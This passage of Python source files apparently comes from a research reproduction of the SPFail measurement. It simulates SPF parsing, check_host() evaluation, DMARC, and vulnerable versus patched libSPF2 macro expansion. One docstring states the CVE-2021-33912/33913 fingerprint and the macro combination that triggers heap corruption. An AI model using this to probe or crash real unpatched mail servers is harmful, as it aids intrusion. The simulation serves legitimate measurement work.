    "TruncatedNotReversedBehavior",
    "StaticExpansionBehavior",
    "behavior_by_name",
    "all_behaviors",
]
