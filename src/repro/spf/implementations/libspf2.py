"""SPF behaviors backed by the libSPF2 port.

The vulnerable behavior routes expansion through
:class:`repro.libspf2.expand.LibSpf2Expander` so the erroneous output (and
any memory corruption) *emerges from the ported bug* rather than being
hard-coded: the evaluator sees exactly the bytes a vulnerable mail server
would have put into its DNS query.
"""

from __future__ import annotations

from ...libspf2.expand import LibSpf2Expander
from ..macro import MacroContext
from .base import BehaviorOutcome, MacroExpansionBehavior


class VulnerableLibSpf2Behavior(MacroExpansionBehavior):
    """libSPF2 with CVE-2021-33912/33913 present.

    The ``%{d1r}`` fingerprint: ``example.com`` expands to
    ``com.com.example``.  Expanding a macro that combines reversal with
    URL encoding corrupts the simulated heap and reports a crash, which
    the simulated MTA surfaces as a dropped connection.
    """

    name = "vulnerable-libspf2"
    description = "libSPF2 before the CVE-2021-33912/33913 fixes"
    rfc_compliant = False
    vulnerable = True

    def __init__(self) -> None:
        self._expander = LibSpf2Expander(patched=False)

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        outcome = self._expander.expand(text, lambda letter: ctx.letter_value(letter))
        return BehaviorOutcome(
            output=outcome.output,
            crashed=outcome.crashed,
            corrupted=outcome.corrupted,
        )


class PatchedLibSpf2Behavior(MacroExpansionBehavior):
    """libSPF2 with the CVE fixes applied — RFC-compliant output."""

    name = "patched-libspf2"
    description = "libSPF2 with the CVE-2021-33912/33913 fixes"
    rfc_compliant = True
    vulnerable = False

    def __init__(self) -> None:
        self._expander = LibSpf2Expander(patched=True)

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        outcome = self._expander.expand(text, lambda letter: ctx.letter_value(letter))
        return BehaviorOutcome(
            output=outcome.output,
            crashed=outcome.crashed,
            corrupted=outcome.corrupted,
        )
