"""The RFC 7208-compliant macro expansion behavior."""

from __future__ import annotations

from ..macro import MacroContext, expand_macros
from .base import BehaviorOutcome, MacroExpansionBehavior


class RfcCompliantBehavior(MacroExpansionBehavior):
    """Expands macros exactly as RFC 7208 section 7 specifies."""

    name = "rfc-compliant"
    description = "RFC 7208 macro expansion (reverse, truncate, escape)"
    rfc_compliant = True
    vulnerable = False

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        return BehaviorOutcome(output=expand_macros(text, ctx))
