"""SPF evaluation results (RFC 7208 section 2.6)."""

from __future__ import annotations

import enum


class SpfResult(enum.Enum):
    """The possible outcomes of ``check_host()``.

    ``NONE``
        No SPF record was found (or no checkable domain).
    ``NEUTRAL``
        The policy explicitly asserts nothing about the client (``?``).
    ``PASS``
        The client is authorized to send for the domain.
    ``FAIL``
        The client is *not* authorized (``-``).
    ``SOFTFAIL``
        The client is probably not authorized (``~``).
    ``TEMPERROR``
        A transient error (usually DNS) prevented evaluation.
    ``PERMERROR``
        The published policy could not be correctly interpreted.
    """

    NONE = "none"
    NEUTRAL = "neutral"
    PASS = "pass"
    FAIL = "fail"
    SOFTFAIL = "softfail"
    TEMPERROR = "temperror"
    PERMERROR = "permerror"

    def is_definitive(self) -> bool:
        """True for results that end mechanism processing."""
        return self in (
            SpfResult.PASS,
            SpfResult.FAIL,
            SpfResult.SOFTFAIL,
            SpfResult.NEUTRAL,
        )

    def __str__(self) -> str:
        return self.value
