"""SPF record parsing (RFC 7208 sections 4.5, 5, and 6).

An SPF record is ``v=spf1`` followed by whitespace-separated *terms*.
A term is either a *mechanism* (``all``, ``include``, ``a``, ``mx``,
``ptr``, ``ip4``, ``ip6``, ``exists``) with an optional qualifier
(``+ - ~ ?``), or a *modifier* (``name=value``, notably ``redirect=`` and
``exp=``).
"""

from __future__ import annotations

import enum
import ipaddress
from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union

from ..errors import SpfSyntaxError
from .result import SpfResult

SPF_VERSION_TAG = "v=spf1"

MECHANISM_NAMES = ("all", "include", "a", "mx", "ptr", "ip4", "ip6", "exists")


class Qualifier(enum.Enum):
    """Mechanism qualifiers and the result each maps to on match."""

    PASS = "+"
    FAIL = "-"
    SOFTFAIL = "~"
    NEUTRAL = "?"

    @property
    def result(self) -> SpfResult:
        return {
            Qualifier.PASS: SpfResult.PASS,
            Qualifier.FAIL: SpfResult.FAIL,
            Qualifier.SOFTFAIL: SpfResult.SOFTFAIL,
            Qualifier.NEUTRAL: SpfResult.NEUTRAL,
        }[self]


@dataclass(frozen=True)
class Mechanism:
    """One mechanism term.

    ``value`` is the domain-spec or address literal, unexpanded (macros
    intact).  ``prefix_length`` / ``prefix_length6`` carry the optional
    dual-CIDR lengths for ``a``/``mx`` (e.g. ``a/24`` or ``a//64``).
    """

    name: str
    qualifier: Qualifier = Qualifier.PASS
    value: Optional[str] = None
    prefix_length: Optional[int] = None
    prefix_length6: Optional[int] = None

    def to_text(self) -> str:
        q = self.qualifier.value if self.qualifier != Qualifier.PASS else ""
        text = f"{q}{self.name}"
        if self.value is not None:
            text += f":{self.value}"
        if self.prefix_length is not None:
            text += f"/{self.prefix_length}"
        if self.prefix_length6 is not None:
            text += f"//{self.prefix_length6}"
        return text


@dataclass(frozen=True)
class Modifier:
    """One modifier term (``name=value``)."""

    name: str
    value: str

    def to_text(self) -> str:
        return f"{self.name}={self.value}"


@dataclass
class SpfRecord:
    """A parsed SPF policy."""

    mechanisms: List[Mechanism] = field(default_factory=list)
    modifiers: List[Modifier] = field(default_factory=list)

    @property
    def redirect(self) -> Optional[str]:
        for mod in self.modifiers:
            if mod.name.lower() == "redirect":
                return mod.value
        return None

    @property
    def exp(self) -> Optional[str]:
        for mod in self.modifiers:
            if mod.name.lower() == "exp":
                return mod.value
        return None

    def to_text(self) -> str:
        terms = [m.to_text() for m in self.mechanisms] + [m.to_text() for m in self.modifiers]
        return " ".join([SPF_VERSION_TAG] + terms)


def looks_like_spf(text: str) -> bool:
    """True if a TXT string is an SPF version-1 record (RFC 7208 4.5)."""
    return text.lower() == SPF_VERSION_TAG or text.lower().startswith(SPF_VERSION_TAG + " ")


def _parse_cidr_suffix(spec: str) -> Tuple[str, Optional[int], Optional[int]]:
    """Split a dual-CIDR suffix off a domain-spec."""
    prefix6: Optional[int] = None
    prefix4: Optional[int] = None
    if "//" in spec:
        spec, _, p6 = spec.partition("//")
        if not p6.isdigit():
            raise SpfSyntaxError(f"bad IPv6 prefix length: {p6!r}")
        prefix6 = int(p6)
        if prefix6 > 128:
            raise SpfSyntaxError(f"IPv6 prefix length out of range: {prefix6}")
    if "/" in spec:
        spec, _, p4 = spec.partition("/")
        if not p4.isdigit():
            raise SpfSyntaxError(f"bad IPv4 prefix length: {p4!r}")
        prefix4 = int(p4)
        if prefix4 > 32:
            raise SpfSyntaxError(f"IPv4 prefix length out of range: {prefix4}")
    return spec, prefix4, prefix6


def _parse_mechanism(term: str) -> Mechanism:
    qualifier = Qualifier.PASS
    if term and term[0] in "+-~?":
        qualifier = Qualifier(term[0])
        term = term[1:]
    if not term:
        raise SpfSyntaxError("empty mechanism after qualifier")

    name, sep, value = term.partition(":")
    name_lower = name.split("/")[0].lower()
    if name_lower not in MECHANISM_NAMES:
        raise SpfSyntaxError(f"unknown mechanism {name!r}")

    if name_lower in ("ip4", "ip6"):
        if not sep:
            raise SpfSyntaxError(f"{name_lower} requires an address")
        # Validate the literal now; evaluation just re-parses it.
        try:
            if "/" in value:
                ipaddress.ip_network(value, strict=False)
            else:
                ipaddress.ip_address(value)
        except ValueError as exc:
            raise SpfSyntaxError(f"bad {name_lower} address {value!r}: {exc}") from exc
        return Mechanism(name=name_lower, qualifier=qualifier, value=value)

    if name_lower in ("include", "exists"):
        if not sep or not value:
            raise SpfSyntaxError(f"{name_lower} requires a domain-spec")
        return Mechanism(name=name_lower, qualifier=qualifier, value=value)

    if name_lower == "all":
        if sep:
            raise SpfSyntaxError("'all' takes no argument")
        return Mechanism(name="all", qualifier=qualifier)

    # a / mx / ptr, with optional domain-spec and dual-CIDR suffix.
    if sep:
        spec, p4, p6 = _parse_cidr_suffix(value)
        return Mechanism(
            name=name_lower, qualifier=qualifier, value=spec or None,
            prefix_length=p4, prefix_length6=p6,
        )
    # No colon: any CIDR suffix rides on the name itself (e.g. "a/24").
    spec, p4, p6 = _parse_cidr_suffix(name)
    if spec.lower() != name_lower:
        raise SpfSyntaxError(f"malformed mechanism {term!r}")
    return Mechanism(name=name_lower, qualifier=qualifier, prefix_length=p4, prefix_length6=p6)


_PARSE_CACHE: dict = {}
_PARSE_CACHE_CAP = 65536


def parse_record_cached(text: str) -> SpfRecord:
    """A shared parsed record for ``text`` (hot-path variant).

    Parsing is pure, so identical record texts always yield equal
    records; campaigns re-fetch the same fleet policies constantly (and
    multi-stack suites re-parse one probe's policy per implementation).
    The returned record is shared across callers and MUST be treated as
    read-only — the evaluator never mutates records.  Syntax errors are
    not cached; malformed policies re-raise on every call.  The cache is
    bounded and cleared wholesale when full.
    """
    record = _PARSE_CACHE.get(text)
    if record is None:
        record = parse_record(text)
        if len(_PARSE_CACHE) >= _PARSE_CACHE_CAP:
            _PARSE_CACHE.clear()
        _PARSE_CACHE[text] = record
    return record


def parse_record(text: str) -> SpfRecord:
    """Parse an SPF record's text into an :class:`SpfRecord`.

    Raises :class:`SpfSyntaxError` for anything RFC 7208 calls a
    permerror-worthy syntax problem.
    """
    stripped = text.strip()
    if not looks_like_spf(stripped):
        raise SpfSyntaxError(f"not an SPF record: {text[:40]!r}")
    record = SpfRecord()
    seen_modifiers = set()
    for term in stripped.split()[1:]:
        # A modifier has '=' before any ':' — mechanisms never contain '='.
        eq = term.find("=")
        if eq > 0 and term[0] not in "+-~?" and (":" not in term or eq < term.index(":")):
            name, value = term[:eq], term[eq + 1 :]
            if not name.replace("-", "").replace("_", "").replace(".", "").isalnum():
                raise SpfSyntaxError(f"bad modifier name {name!r}")
            if name.lower() in ("redirect", "exp"):
                if name.lower() in seen_modifiers:
                    raise SpfSyntaxError(f"duplicate modifier {name!r}")
                seen_modifiers.add(name.lower())
                if not value:
                    raise SpfSyntaxError(f"modifier {name!r} requires a value")
            record.modifiers.append(Modifier(name=name, value=value))
        else:
            record.mechanisms.append(_parse_mechanism(term))
    return record
