"""The RFC 7208 ``check_host()`` algorithm.

:class:`SpfEvaluator` evaluates an SPF policy for one SMTP transaction:
it fetches the domain's TXT policy, walks mechanisms left to right, issues
the DNS lookups each mechanism needs, and enforces the processing limits
(10 DNS-querying terms, void-lookup limit, include/redirect recursion).

Macro expansion is delegated to a pluggable
:class:`~repro.spf.implementations.base.MacroExpansionBehavior` — this is
the knob that turns one evaluator into an RFC-compliant validator, a
vulnerable libSPF2 one, or any of the paper's non-compliant variants,
while every other moving part stays identical.  The DNS queries the
evaluator sends are exactly what the SPFail measurement observes.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field
from typing import List, Optional, Union

from .. import ipmemo as _ipmemo
from ..dns.name import Name
from ..dns.resolver import StubResolver
from ..errors import MacroError, NameError_, ResolutionError, SpfSyntaxError
from ..obs import context as _obs
from .implementations.base import MacroExpansionBehavior
from .implementations.rfc_compliant import RfcCompliantBehavior
from .macro import MacroContext, contains_macros
from .record import Mechanism, SpfRecord, looks_like_spf, parse_record_cached
from .result import SpfResult

IPAddress = Union[ipaddress.IPv4Address, ipaddress.IPv6Address]

MAX_DNS_MECHANISMS = 10
MAX_VOID_LOOKUPS = 2
MAX_MX_EXCHANGES = 10


@dataclass
class CheckHostOutcome:
    """Everything ``check_host()`` determined for one transaction."""

    result: SpfResult
    matched_mechanism: Optional[str] = None
    dns_mechanism_count: int = 0
    void_lookups: int = 0
    crashed: bool = False
    explanation: Optional[str] = None

    def __str__(self) -> str:
        extra = f" ({self.matched_mechanism})" if self.matched_mechanism else ""
        return f"{self.result}{extra}"


class _Budget:
    """Shared processing-limit state across include/redirect recursion."""

    def __init__(self) -> None:
        self.dns_mechanisms = 0
        self.void_lookups = 0

    def charge_mechanism(self) -> bool:
        self.dns_mechanisms += 1
        return self.dns_mechanisms <= MAX_DNS_MECHANISMS

    def charge_void(self) -> bool:
        self.void_lookups += 1
        return self.void_lookups <= MAX_VOID_LOOKUPS


class _Crashed(Exception):
    """Internal signal: the SPF implementation corrupted memory and died."""


class SpfEvaluator:
    """Evaluates SPF policies using a DNS stub resolver.

    >>> outcome = evaluator.check_host(ip, "example.com", "user@example.com")
    ... # doctest: +SKIP
    """

    def __init__(
        self,
        resolver: StubResolver,
        *,
        behavior: Optional[MacroExpansionBehavior] = None,
    ) -> None:
        self.resolver = resolver
        self.behavior = behavior or RfcCompliantBehavior()

    # -- public API ---------------------------------------------------------

    def check_host(
        self,
        ip: IPAddress,
        domain: str,
        sender: str,
        *,
        helo_domain: str = "unknown",
    ) -> CheckHostOutcome:
        """Run ``check_host()`` per RFC 7208 section 4."""
        obs = _obs.ACTIVE
        if obs is None:
            return self._check_host(ip, domain, sender, helo_domain)
        if obs.tracer.enabled:
            with obs.tracer.span("spf.check_host", domain=domain, sender=sender):
                outcome = self._check_host(ip, domain, sender, helo_domain)
                obs.tracer.event(
                    "spf.result",
                    result=outcome.result.value,
                    mechanism=outcome.matched_mechanism,
                    dns_mechanisms=outcome.dns_mechanism_count,
                    void_lookups=outcome.void_lookups,
                    crashed=outcome.crashed,
                )
        else:
            outcome = self._check_host(ip, domain, sender, helo_domain)
        obs.metrics.counter("spf.check_host").inc(outcome.result.value)
        obs.metrics.histogram("spf.dns_mechanisms").observe(outcome.dns_mechanism_count)
        if outcome.crashed:
            obs.metrics.counter("spf.crashes").inc()
        return outcome

    def _check_host(
        self, ip: IPAddress, domain: str, sender: str, helo_domain: str
    ) -> CheckHostOutcome:
        budget = _Budget()
        crashed = False
        try:
            result, matched = self._check(ip, domain, sender, helo_domain, budget, depth=0)
        except _Crashed:
            # The process died mid-validation; from the SMTP client's view
            # the transaction just breaks.  Modeled as a transient error
            # plus the crashed flag for the MTA wrapper.
            result, matched = SpfResult.TEMPERROR, None
            crashed = True
        return CheckHostOutcome(
            result=result,
            matched_mechanism=matched,
            dns_mechanism_count=budget.dns_mechanisms,
            void_lookups=budget.void_lookups,
            crashed=crashed,
        )

    # -- core recursion -------------------------------------------------------

    def _check(
        self,
        ip: IPAddress,
        domain: str,
        sender: str,
        helo_domain: str,
        budget: _Budget,
        depth: int,
    ) -> tuple:
        if depth > 10:
            return SpfResult.PERMERROR, None
        record = self._fetch_record(domain)
        if record is None:
            return SpfResult.NONE, None
        if isinstance(record, SpfResult):
            return record, None

        ctx = MacroContext(
            sender=sender, domain=domain, client_ip=ip, helo_domain=helo_domain
        )

        for mechanism in record.mechanisms:
            try:
                matched = self._match(mechanism, ctx, budget, depth)
            except SpfSyntaxError:
                return SpfResult.PERMERROR, None
            except MacroError:
                return SpfResult.PERMERROR, None
            except ResolutionError:
                return SpfResult.TEMPERROR, None
            if matched is None:  # processing-limit violation
                return SpfResult.PERMERROR, None
            if matched is SpfResult.TEMPERROR:
                return SpfResult.TEMPERROR, None
            if matched is SpfResult.PERMERROR:
                return SpfResult.PERMERROR, None
            if matched:
                return mechanism.qualifier.result, mechanism.to_text()

        redirect = record.redirect
        if redirect is not None:
            if not budget.charge_mechanism():
                return SpfResult.PERMERROR, None
            target = self._expand(redirect, ctx)
            result, matched_mech = self._check(
                ip, target, sender, helo_domain, budget, depth + 1
            )
            if result == SpfResult.NONE:
                return SpfResult.PERMERROR, None
            return result, matched_mech

        return SpfResult.NEUTRAL, None

    # -- record fetch -----------------------------------------------------------

    def _fetch_record(self, domain: str):
        """TXT lookup and policy selection (RFC 7208 section 4.5)."""
        try:
            txts = self.resolver.get_txt(domain)
        except ResolutionError:
            return SpfResult.TEMPERROR
        spf_texts = [t for t in txts if looks_like_spf(t)]
        if not spf_texts:
            return None
        if len(spf_texts) > 1:
            return SpfResult.PERMERROR
        try:
            return parse_record_cached(spf_texts[0])
        except SpfSyntaxError:
            return SpfResult.PERMERROR

    # -- expansion ---------------------------------------------------------------

    def _expand(self, spec: str, ctx: MacroContext) -> str:
        outcome = self.behavior.expand_domain_spec(spec, ctx)
        obs = _obs.ACTIVE
        if obs is not None and contains_macros(spec):
            obs.metrics.counter("spf.macro_expansions").inc(self.behavior.name)
            if obs.tracer.enabled:
                obs.tracer.event(
                    "spf.macro.expand",
                    spec=spec,
                    output=outcome.output,
                    behavior=self.behavior.name,
                    crashed=outcome.crashed,
                    corrupted=outcome.corrupted,
                )
        if outcome.crashed:
            raise _Crashed()
        return outcome.output

    def _target_name(self, mechanism: Mechanism, ctx: MacroContext) -> str:
        if mechanism.value:
            return self._expand(mechanism.value, ctx)
        return ctx.domain

    # -- mechanism matching ------------------------------------------------------

    def _match(self, mechanism: Mechanism, ctx: MacroContext, budget: _Budget, depth: int):
        """Returns True/False, None for limit violations, or an SpfResult
        to propagate (include's temperror/permerror)."""
        name = mechanism.name
        if name == "all":
            return True
        if name == "ip4":
            return self._match_ip4(mechanism, ctx.client_ip)
        if name == "ip6":
            return self._match_ip6(mechanism, ctx.client_ip)

        # Every remaining mechanism costs a DNS lookup.
        if not budget.charge_mechanism():
            return None

        if name == "a":
            return self._match_a(mechanism, ctx, budget)
        if name == "mx":
            return self._match_mx(mechanism, ctx, budget)
        if name == "exists":
            target = self._expand(mechanism.value or "", ctx)
            addresses = self._safe_addresses(target, budget, want_ipv6=False)
            return bool(addresses)
        if name == "include":
            target = self._expand(mechanism.value or "", ctx)
            result, _ = self._check(
                ctx.client_ip, target, ctx.sender, ctx.helo_domain, budget, depth + 1
            )
            if result == SpfResult.PASS:
                return True
            if result in (SpfResult.FAIL, SpfResult.SOFTFAIL, SpfResult.NEUTRAL):
                return False
            if result == SpfResult.TEMPERROR:
                return SpfResult.TEMPERROR
            return SpfResult.PERMERROR  # none or permerror
        if name == "ptr":
            return self._match_ptr(mechanism, ctx, budget)
        raise SpfSyntaxError(f"unknown mechanism {name!r}")

    def _match_ip4(self, mechanism: Mechanism, ip: IPAddress) -> bool:
        if not isinstance(ip, ipaddress.IPv4Address):
            return False
        value = mechanism.value or ""
        network = _ipmemo.ip_network(value if "/" in value else value + "/32")
        return isinstance(network, ipaddress.IPv4Network) and ip in network

    def _match_ip6(self, mechanism: Mechanism, ip: IPAddress) -> bool:
        if not isinstance(ip, ipaddress.IPv6Address):
            return False
        value = mechanism.value or ""
        network = _ipmemo.ip_network(value if "/" in value else value + "/128")
        return isinstance(network, ipaddress.IPv6Network) and ip in network

    def _addresses_match(
        self, addresses, ip: IPAddress, prefix4: Optional[int], prefix6: Optional[int]
    ) -> bool:
        for address in addresses:
            if isinstance(ip, ipaddress.IPv4Address) and isinstance(
                address, ipaddress.IPv4Address
            ):
                if prefix4 is None:
                    if ip == address:
                        return True
                elif ip in _ipmemo.ip_network(f"{address}/{prefix4}"):
                    return True
            elif isinstance(ip, ipaddress.IPv6Address) and isinstance(
                address, ipaddress.IPv6Address
            ):
                if prefix6 is None:
                    if ip == address:
                        return True
                elif ip in _ipmemo.ip_network(f"{address}/{prefix6}"):
                    return True
        return False

    def _safe_addresses(self, target: str, budget: _Budget, *, want_ipv6: bool = True):
        """Resolve A/AAAA, tolerating malformed expansion output.

        Non-compliant expansions can produce names that are not valid DNS
        names at all (e.g. a literal ``%{d1r}`` label longer than 63
        bytes); those simply never resolve.
        """
        try:
            name = Name.from_text(target)
        except NameError_:
            if not budget.charge_void():
                raise SpfSyntaxError("void lookup limit exceeded")
            return []
        addresses = self.resolver.get_addresses(name, want_ipv6=want_ipv6)
        if not addresses:
            if not budget.charge_void():
                raise SpfSyntaxError("void lookup limit exceeded")
        return addresses

    def _match_a(self, mechanism: Mechanism, ctx: MacroContext, budget: _Budget) -> bool:
        target = self._target_name(mechanism, ctx)
        addresses = self._safe_addresses(target, budget)
        return self._addresses_match(
            addresses, ctx.client_ip, mechanism.prefix_length, mechanism.prefix_length6
        )

    def _match_mx(self, mechanism: Mechanism, ctx: MacroContext, budget: _Budget) -> bool:
        target = self._target_name(mechanism, ctx)
        try:
            name = Name.from_text(target)
        except NameError_:
            if not budget.charge_void():
                raise SpfSyntaxError("void lookup limit exceeded")
            return False
        exchanges = self.resolver.get_mx(name)
        if not exchanges:
            if not budget.charge_void():
                raise SpfSyntaxError("void lookup limit exceeded")
            return False
        if len(exchanges) > MAX_MX_EXCHANGES:
            raise SpfSyntaxError("too many MX records")
        for _, exchange in exchanges:
            addresses = self.resolver.get_addresses(exchange)
            if self._addresses_match(
                addresses, ctx.client_ip, mechanism.prefix_length, mechanism.prefix_length6
            ):
                return True
        return False

    def _match_ptr(self, mechanism: Mechanism, ctx: MacroContext, budget: _Budget) -> bool:
        ip = ctx.client_ip
        if isinstance(ip, ipaddress.IPv4Address):
            reverse = ".".join(reversed(str(ip).split("."))) + ".in-addr.arpa"
        else:
            reverse = ".".join(reversed(ip.exploded.replace(":", ""))) + ".ip6.arpa"
        from ..dns.rdata import RRType

        try:
            ptrs = self.resolver.resolve(reverse, RRType.PTR)
        except ResolutionError:
            return False
        if not ptrs:
            if not budget.charge_void():
                raise SpfSyntaxError("void lookup limit exceeded")
            return False
        scope = self._target_name(mechanism, ctx)
        try:
            scope_name = Name.from_text(scope)
        except NameError_:
            return False
        for rr in ptrs[:MAX_MX_EXCHANGES]:
            hostname = rr.rdata.target  # type: ignore[union-attr]
            if not hostname.is_subdomain_of(scope_name):
                continue
            addresses = self.resolver.get_addresses(hostname)
            if any(a == ip for a in addresses):
                return True
        return False
