"""Sender Policy Framework (RFC 7208) engine.

The SPF engine has three layers:

- :mod:`repro.spf.record` parses policy text into terms (mechanisms with
  qualifiers, and modifiers),
- :mod:`repro.spf.macro` implements the RFC 7208 section 7 macro language
  (expansion, digit/reverse transformers, delimiters, URL escaping),
- :mod:`repro.spf.evaluator` implements ``check_host()`` — the full
  evaluation algorithm with DNS lookups and processing limits.

:mod:`repro.spf.implementations` provides pluggable macro-expansion
*behaviors*: the RFC-compliant one, the vulnerable libSPF2 one whose
erroneous output is the fingerprint SPFail detects, and the non-compliant
variants catalogued in the paper's Table 7.
"""

from .result import SpfResult
from .record import SpfRecord, Mechanism, Modifier, Qualifier, parse_record
from .macro import MacroContext, expand_macros
from .evaluator import SpfEvaluator, CheckHostOutcome
from .implementations import (
    MacroExpansionBehavior,
    RfcCompliantBehavior,
    VulnerableLibSpf2Behavior,
    NoExpansionBehavior,
    ReversedNotTruncatedBehavior,
    TruncatedNotReversedBehavior,
    StaticExpansionBehavior,
    behavior_by_name,
)

__all__ = [
    "SpfResult",
    "SpfRecord",
    "Mechanism",
    "Modifier",
    "Qualifier",
    "parse_record",
    "MacroContext",
    "expand_macros",
    "SpfEvaluator",
    "CheckHostOutcome",
    "MacroExpansionBehavior",
    "RfcCompliantBehavior",
    "VulnerableLibSpf2Behavior",
    "NoExpansionBehavior",
    "ReversedNotTruncatedBehavior",
    "TruncatedNotReversedBehavior",
    "StaticExpansionBehavior",
    "behavior_by_name",
]
