"""A minimal DMARC implementation (RFC 7489 subset).

The measurement published DMARC records for its probe source domains
instructing receivers to reject outright (paper Section 6.2) — one of the
safeguards that kept blank probe email out of inboxes.  This module
implements the pieces that safeguard rests on:

- parsing ``v=DMARC1`` policy records,
- discovery: TXT at ``_dmarc.<domain>``, falling back to
  ``_dmarc.<organizational domain>`` with the subdomain policy ``sp``,
- SPF-identifier alignment and the final disposition for a message.

DKIM is out of scope (the paper's measurement never signs anything), so
alignment is evaluated from SPF alone: exactly the position the probe
email is in.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Optional

from ..dns.name import Name
from ..dns.resolver import StubResolver
from ..errors import ResolutionError, SpfSyntaxError
from .result import SpfResult


class DmarcPolicy(enum.Enum):
    """Requested handling for non-passing mail."""

    NONE = "none"
    QUARANTINE = "quarantine"
    REJECT = "reject"


class AlignmentMode(enum.Enum):
    RELAXED = "r"
    STRICT = "s"


@dataclass(frozen=True)
class DmarcRecord:
    """A parsed DMARC policy record."""

    policy: DmarcPolicy
    subdomain_policy: Optional[DmarcPolicy] = None
    spf_alignment: AlignmentMode = AlignmentMode.RELAXED
    percentage: int = 100

    def effective_policy(self, *, is_subdomain: bool) -> DmarcPolicy:
        if is_subdomain and self.subdomain_policy is not None:
            return self.subdomain_policy
        return self.policy


class Disposition(enum.Enum):
    """What the receiver should do with the message."""

    ACCEPT = "accept"
    QUARANTINE = "quarantine"
    REJECT = "reject"
    NO_POLICY = "no-policy"


def looks_like_dmarc(text: str) -> bool:
    lowered = text.strip().lower()
    return lowered == "v=dmarc1" or lowered.startswith("v=dmarc1;")


def parse_dmarc(text: str) -> DmarcRecord:
    """Parse a DMARC record's tag=value list."""
    if not looks_like_dmarc(text):
        raise SpfSyntaxError(f"not a DMARC record: {text[:40]!r}")
    tags = {}
    for part in text.split(";")[1:]:
        part = part.strip()
        if not part:
            continue
        key, _, value = part.partition("=")
        tags[key.strip().lower()] = value.strip()

    def policy_of(value: str) -> DmarcPolicy:
        try:
            return DmarcPolicy(value.lower())
        except ValueError:
            raise SpfSyntaxError(f"bad DMARC policy {value!r}") from None

    if "p" not in tags:
        raise SpfSyntaxError("DMARC record missing required p= tag")
    percentage = 100
    if "pct" in tags:
        if not tags["pct"].isdigit() or not 0 <= int(tags["pct"]) <= 100:
            raise SpfSyntaxError(f"bad pct {tags['pct']!r}")
        percentage = int(tags["pct"])
    aspf = AlignmentMode.RELAXED
    if "aspf" in tags:
        try:
            aspf = AlignmentMode(tags["aspf"].lower())
        except ValueError:
            raise SpfSyntaxError(f"bad aspf {tags['aspf']!r}") from None
    return DmarcRecord(
        policy=policy_of(tags["p"]),
        subdomain_policy=policy_of(tags["sp"]) if "sp" in tags else None,
        spf_alignment=aspf,
        percentage=percentage,
    )


def organizational_domain(domain: str) -> str:
    """The registrable domain, approximated as the last two labels.

    A full public-suffix list is out of scope; two labels is exact for
    every name the simulation generates.
    """
    labels = domain.rstrip(".").split(".")
    return ".".join(labels[-2:]) if len(labels) >= 2 else domain


def spf_aligned(header_from_domain: str, spf_domain: str, mode: AlignmentMode) -> bool:
    """Is the SPF-authenticated domain aligned with the From: domain?"""
    header = header_from_domain.lower().rstrip(".")
    authenticated = spf_domain.lower().rstrip(".")
    if mode == AlignmentMode.STRICT:
        return header == authenticated
    return organizational_domain(header) == organizational_domain(authenticated)


def lookup_dmarc(
    resolver: StubResolver, domain: str
) -> Optional[tuple]:
    """Find the applicable DMARC record for ``domain``.

    Returns ``(record, is_subdomain)`` or None.  Discovery per RFC 7489
    section 6.6.3: query ``_dmarc.<domain>``; on nothing, query
    ``_dmarc.<organizational domain>``.
    """
    for candidate, is_subdomain in (
        (domain, False),
        (organizational_domain(domain), domain != organizational_domain(domain)),
    ):
        try:
            txts = resolver.get_txt(f"_dmarc.{candidate}")
        except ResolutionError:
            return None
        records = [t for t in txts if looks_like_dmarc(t)]
        if len(records) == 1:
            try:
                return parse_dmarc(records[0]), is_subdomain
            except SpfSyntaxError:
                return None
        if records:
            return None  # multiple records: no policy applies
        if not is_subdomain and domain == organizational_domain(domain):
            break
    return None


def evaluate_dmarc(
    resolver: StubResolver,
    *,
    header_from_domain: str,
    spf_result: SpfResult,
    spf_domain: str,
) -> Disposition:
    """The disposition DMARC requests, given the SPF outcome.

    DMARC passes when SPF passed *and* the authenticated domain aligns
    with the From: domain; otherwise the published policy applies.
    """
    found = lookup_dmarc(resolver, header_from_domain)
    if found is None:
        return Disposition.NO_POLICY
    record, is_subdomain = found
    if spf_result == SpfResult.PASS and spf_aligned(
        header_from_domain, spf_domain, record.spf_alignment
    ):
        return Disposition.ACCEPT
    policy = record.effective_policy(is_subdomain=is_subdomain)
    if policy == DmarcPolicy.REJECT:
        return Disposition.REJECT
    if policy == DmarcPolicy.QUARANTINE:
        return Disposition.QUARANTINE
    return Disposition.ACCEPT
