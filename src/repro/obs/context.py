"""The ambient observation context.

Instrumentation sits on hot paths (every SMTP reply, every DNS query,
every macro expansion), so the layer must cost nothing when nobody is
watching.  The whole mechanism is one module-level global: components
read :data:`ACTIVE` — a single attribute load — and skip all work when
it is ``None``.  No observation object is ever threaded through
constructors, which is what lets the deepest layers (the libSPF2 port,
the RFC 7208 engine built per-validation inside an MTA) emit events
without any API change.

The global is process-wide on purpose: one observation spans one
campaign run, and the executors' worker "pool" shares the process.  The
:class:`~repro.obs.trace.Tracer` and
:class:`~repro.obs.metrics.MetricsRegistry` behind it are themselves
thread-safe, so a future truly-threaded executor needs no change here.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, Optional

from .metrics import MetricsRegistry
from .trace import Tracer


class Observation:
    """One campaign run's tracer + metrics registry, as a unit."""

    def __init__(
        self,
        *,
        trace: bool = False,
        clock=None,
    ) -> None:
        self.tracer = Tracer(enabled=trace, clock=clock)
        self.metrics = MetricsRegistry()
        #: the attached wall-clock sideband recorder, or ``None``
        #: (:class:`repro.obs.perf.PerfRecorder`, via :meth:`attach_perf`).
        self.perf = None

    def attach_perf(self, recorder) -> None:
        """Attach a wall-clock sideband recorder as the tracer's sink.

        Span wall-timing rides the tracer's span boundaries, so the
        tracer must be enabled for the recorder to see anything — the
        CLI turns tracing on whenever ``--perf`` is given.  The recorder
        only ever *receives* ids from the tracer; nothing it does can
        alter a trace event, which is the structural guarantee behind
        the byte-neutrality tests.
        """
        self.perf = recorder
        self.tracer.sink = recorder

    def bind_clock(self, clock) -> None:
        """Point trace timestamps at a simulation clock callable.

        For a campaign this is the :class:`~repro.exec.ClockRouter`, so
        events emitted while a probe is in flight are stamped with that
        probe's virtual timeslot — identically under every executor.
        """
        self.tracer.clock = clock

    def to_dict(self) -> dict:
        """JSON-ready snapshot (the ``--metrics-out`` payload core)."""
        return {
